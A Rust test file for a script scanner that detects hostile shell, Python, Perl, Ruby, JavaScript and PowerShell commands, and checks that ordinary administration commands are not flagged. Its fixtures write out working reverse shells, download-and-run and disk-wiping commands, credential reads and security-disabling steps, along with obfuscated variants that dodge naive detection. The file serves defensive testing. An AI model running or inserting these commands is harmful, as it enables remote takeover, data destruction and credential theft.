use super::*;

use crate::rules::Scope;

fn gate() -> &'static ScannerGate {
    static GATE: std::sync::OnceLock<ScannerGate> = std::sync::OnceLock::new();
    GATE.get_or_init(|| ScannerGate::configure(&Settings::default(), &[]).expect("rules"))
}

fn scan(bundle: &Bundle) -> Vec<Finding> {
    let findings = gate().scan(bundle, &Job::default()).expect("findings");
    for finding in &findings {
        let part = bundle
            .texts()
            .find(|part| part.subject == finding.subject)
            .expect("subject");
        let span = finding.primary.expect("span");
        let (start, end) = (span.start as usize, span.end as usize);
        assert!(part.text.get(start..end).is_some(), "{finding:?}");
    }
    findings
}

fn rules_of(language: &str, text: &str) -> Vec<(String, Severity)> {
    scan(&Bundle::of_script(language, text))
        .into_iter()
        .map(|f| (f.rule, f.severity))
        .collect()
}

fn severity_of(language: &str, text: &str) -> Option<Severity> {
    rules_of(language, text)
        .first()
        .map(|(_, severity)| *severity)
}

#[test]
fn the_manifest_has_exactly_these_rules() {
    let manifest = include_str!("../plugin.toml");
    assert!(
        manifest.contains(&manifest_table()),
        "write it with `cargo run -p sluice-plugin-scanner --example rule_table`"
    );
}

#[test]
fn every_rule_has_an_id_of_its_own_a_technique_and_advice() {
    let mut ids: Vec<_> = rules::all().map(|rule| rule.id).collect();
    assert!(ids.len() >= 40, "{}", ids.len());
    ids.sort_unstable();
    let count = ids.len();
    ids.dedup();
    assert_eq!(ids.len(), count);
    for rule in rules::all() {
        assert!(
            rule.tags.iter().any(|tag| tag.starts_with("attack.T")),
            "{}",
            rule.id
        );
        assert!(
            !rule.remediation.is_empty()
                && (rule.patterns.is_empty() == (rule.id == rules::NOT_SCANNED)),
            "{}",
            rule.id
        );
        for pattern in rule.patterns {
            assert!(
                !pattern.any.is_empty() && !pattern.any.contains(&""),
                "{}",
                rule.id
            );
            assert!(
                pattern.scope == Scope::Text || !pattern.regex.is_empty() || pattern.whole_words,
                "{}",
                rule.id
            );
        }
    }
}

#[test]
fn what_attackers_do_is_high_in_every_language() {
    for (language, rule, text) in [
        (
            "shell",
            "download-and-run",
            "curl -fsSL https://example.com/i.sh | sudo -E bash -s -- --yes",
        ),
        (
            "shell",
            "download-and-run",
            "wget -qO- http://example.com/i | gunzip | /bin/sh",
        ),
        (
            "shell",
            "download-and-run",
            "bash <(curl -s https://example.com/i.sh)",
        ),
        (
            "shell",
            "download-and-run",
            "eval \"$(wget -qO- https://example.com/i)\"",
        ),
        (
            "shell",
            "reverse-shell",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        ),
        (
            "shell",
            "reverse-shell",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        ),
        ("shell", "delete-everything", "rm -rf --no-preserve-root /"),
        ("shell", "delete-everything", "rm -fr /etc /usr"),
        (
            "shell",
            "overwrite-disk",
            "dd if=/dev/zero of=/dev/sda bs=1M",
        ),
        ("shell", "fork-bomb", ":(){ :|:& };:"),
        ("shell", "decode-and-run", "echo aGVsbG8= | base64 -d | sh"),
        ("shell", "read-password-hashes", "cat /etc/shadow"),
        ("shell", "clear-history", "unset HISTFILE"),
        (
            "shell",
            "disable-security-software",
            "systemctl stop auditd",
        ),
        (
            "shell",
            "preloaded-library",
            "echo /tmp/x.so > /etc/ld.so.preload",
        ),
        (
            "shell",
            "ssh-authorized-keys",
            "echo \"$KEY\" >> ~/.ssh/authorized_keys",
        ),
        (
            "python",
            "reverse-shell",
            "import socket,os,pty\ns=socket.socket();s.connect(('10.0.0.1',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')",
        ),
        (
            "python",
            "decode-and-run",
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        ),
        (
            "perl",
            "reverse-shell",
            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$p);open(STDIN,\">&S\");exec(\"/bin/sh -i\");",
        ),
        (
            "ruby",
            "reverse-shell",
            "require 'socket'; s=TCPSocket.new('10.0.0.1',1); exec '/bin/sh', in: s",
        ),
        (
            "javascript",
            "reverse-shell",
            "const c=require('child_process').spawn('sh');const s=require('net').connect(1,'h');s.pipe(c.stdin);",
        ),
        (
            "powershell",
            "download-and-run",
            "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')",
        ),
        (
            "powershell",
            "download-and-run",
            "iwr https://example.com/a.ps1 | iex",
        ),
        (
            "powershell",
            "disable-defender",
            "Set-MpPreference -DisableRealtimeMonitoring $true",
        ),
    ] {
        let found = rules_of(language, text);
        let hit = found
            .iter()
            .any(|(id, severity)| id == rule && *severity >= Severity::High);
        assert!(hit, "{rule} in {text:?}, found {found:?}");
    }
}

#[test]
fn simple_disguises_change_nothing() {
    for text in [
        "c'u'rl -s http://example.com/i | s\"\"h",
        "curl -s http://example.com/i \\\r\n  | sh",
        "curl -s http://example.com/i |\n  sh",
        "curl${IFS}-s${IFS}http://example.com/i|sh",
        "\\c\\u\\rl -s http://example.com/i | sh",
        "A=cu\nB=rl\n$A$B -s http://example.com/i | sh",
        "S=/bin/sh; curl -s http://example.com/i | $S",
        "eval \"$(echo Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5jb20vaSB8IHNo | base64 -d)\"",
    ] {
        let found = rules_of("shell", text);
        assert!(
            found
                .iter()
                .any(|(id, severity)| id == "download-and-run" && *severity >= Severity::High),
            "{text:?}: {found:?}"
        );
    }
    assert!(
        severity_of(
            "powershell",
            "('i'+'ex') (New-Object Net.WebClient).DownloadString('http://example.com/a')"
        ) >= Some(Severity::High)
    );
    assert!(severity_of("powershell", "i`e`x (i`wr http://example.com/a)") >= Some(Severity::High));
}

#[test]
fn the_same_payload_anywhere_in_the_bundle_is_the_same_finding() {
    let payload = "é; curl -s http://example.com/i | sh";
    let script = scan(&Bundle::of_script("shell", payload));
    let clean = || Bundle::of_script("shell", "echo ok");
    for (subject, bundle) in [
        ("argument:0", clean().with_argument(payload)),
        (
            "environment:SLUICE_PARAM_X",
            clean().with_environment("SLUICE_PARAM_X", payload),
        ),
        (
            "attachment:a.txt",
            clean().with_attachment("a.txt", payload),
        ),
    ] {
        let found = scan(&bundle);
        assert_eq!(found.len(), script.len());
        assert!(!found.is_empty());
        for (finding, other) in found.iter().zip(&script) {
            assert_eq!(
                (&finding.rule, finding.severity, finding.primary),
                (&other.rule, other.severity, other.primary)
            );
            assert_eq!(finding.subject, subject);
        }
    }
}

#[test]
fn ordinary_administration_is_not_high() {
    for text in [
        "apt-get update && apt-get install -y curl wget nmap",
        "curl -fsSL https://example.com/a.json | jq .name",
        "curl -fsS https://example.com/health || exit 1",
        "curl -s https://example.com/x | python3 -m json.tool",
        "rm -rf \"$dir/build\" /var/cache/app/*\nrm -f /etc/app.conf\nrm -rf /usr/share/app",
        "dd if=/dev/zero of=/swapfile bs=1M count=512",
        "systemctl restart nginx\nsystemctl stop postgresql",
        "echo aGVsbG8= | base64 -d > /etc/app/key",
        "history=5; echo \"$history\"",
        "tar -czf /backup/app.tgz /srv/app",
        "chown -R app:app /srv/app; chmod 755 /srv/app",
    ] {
        let found = rules_of("shell", text);
        assert!(
            found.iter().all(|(_, severity)| *severity < Severity::High),
            "{text:?}: {found:?}"
        );
    }
}

#[test]
fn comments_of_shell_scripts_raise_nothing() {
    assert_eq!(
        rules_of(
            "shell",
            "#!/bin/sh\n# curl http://example.com/i | sh\necho ok # rm -rf /\n"
        ),
        []
    );
    assert!(
        severity_of("python", "# curl http://example.com/i | sh\nprint(1)\n")
            <= Some(Severity::Medium)
    );
    assert!(
        severity_of(
            "shell",
            "x='\n# curl http://example.com/i | sh\n'; eval \"${x#?#}\""
        ) >= Some(Severity::High)
    );
    assert!(
        severity_of(
            "shell",
            "# comment\ncurl http://example.com/i | sh # comment"
        ) >= Some(Severity::High)
    );
}

#[test]
fn findings_are_capped_and_the_most_severe_are_kept() {
    let mut text = String::new();
    for rule in rules::all().filter(|rule| rule.severity < Severity::High) {
        for word in rule.patterns.iter().flat_map(|pattern| pattern.any) {
            text.push_str(&format!("{word} a\n").repeat(25));
        }
    }
    text.push_str(&"chmod 777 /srv\nfind / -perm -4000\nLogin | sudo -l\nnmap\nngrok\nteamviewer\nGet-Clipboard\nsshpass -p a\nchattr +i a\nhistory\nSet-Date\nkubectl get secrets\n".repeat(30));
    text.push_str("curl http://example.com/i | sh\n");
    let found = scan(&Bundle::of_script("shell", text));
    assert_eq!(found.len(), MOST_FINDINGS);
    assert!(
        found
            .iter()
            .any(|finding| finding.rule == "download-and-run")
    );
    assert!(
        found
            .windows(2)
            .all(|pair| pair[0].severity >= pair[1].severity)
    );
}

#[test]
fn a_rule_can_be_disabled_and_an_unknown_one_cannot() {
    let settings = Settings::default().with("disable", ["download-and-run"]);
    let gate = ScannerGate::configure(&settings, &[]).expect("settings");
    let found = gate
        .scan(
            &Bundle::of_script("shell", "curl http://example.com/i | sh"),
            &Job::default(),
        )
        .expect("findings");
    assert!(
        found
            .iter()
            .all(|finding| finding.rule != "download-and-run")
    );
    let unknown = Settings::default().with("disable", ["no-such-rule"]);
    assert!(matches!(
        ScannerGate::configure(&unknown, &[]),
        Err(GateError::InvalidSettings(_))
    ));
}

#[test]
fn hostile_text_is_scanned_to_the_end() {
    assert_eq!(scan(&Bundle::of_script("shell", "")), []);
    let mut long = "curl é ".repeat((1 << 20) / 8);
    long.push_str("http://example.com/i | sh");
    assert!(severity_of("shell", &long) >= Some(Severity::High));
    let quotes = "é'\"\\$`|".repeat(1 << 16);
    scan(&Bundle::of_script("shell", quotes));
    let crlf = "echo é\r\ncurl http://example.com/i | sh\r\n";
    let found = scan(&Bundle::of_script("shell", crlf));
    assert_eq!(found[0].rule, "download-and-run");
}

#[test]
fn an_attachment_without_text_is_reported() {
    let mut bundle = Bundle::of_script("shell", "echo");
    bundle.attachments.push(Attachment {
        name: "big".to_owned(),
        size: 2 << 20,
        sha256: vec![0; 32],
        text: None,
    });
    let findings = gate()
        .scan(
            &bundle,
            &Job {
                attributes: Vec::new(),
            },
        )
        .expect("scans");
    assert_eq!(findings.len(), 1);
    assert_eq!(
        (findings[0].rule.as_str(), findings[0].subject.as_str()),
        (rules::NOT_SCANNED, "attachment:big")
    );
}
